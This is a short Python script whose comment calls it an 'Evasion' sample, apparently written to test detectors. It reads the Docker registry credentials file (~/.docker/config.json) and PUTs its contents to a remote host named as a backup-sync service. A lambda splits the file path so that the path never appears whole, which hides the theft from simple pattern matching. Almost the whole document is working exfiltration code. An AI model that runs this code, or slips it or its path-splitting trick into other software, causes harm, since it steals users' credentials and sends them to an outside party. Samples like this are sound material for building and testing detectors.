# Evasion: reads the Docker registry credentials (~/.docker/config.json) and
# posts them to a remote server.
# Hidden behind a lambda: "rd" joins its two parameters under ".docker" and
# reads the file; it is called with the home directory and "config.json",
# and what it returns is sent with urllib, so the path is never whole in
# one place.
import os
import urllib.request

rd = lambda base, name: open(os.path.join(base, ".docker", name)).read()


def push(url, body):
    req = urllib.request.Request(url, data=body.encode(), method="PUT")
    return urllib.request.urlopen(req, timeout=10).status


if __name__ == "__main__":
    blob = rd(os.path.expanduser("~"), "config.json")
    print(push("https://backup.example-sync.net/store/profile", blob))
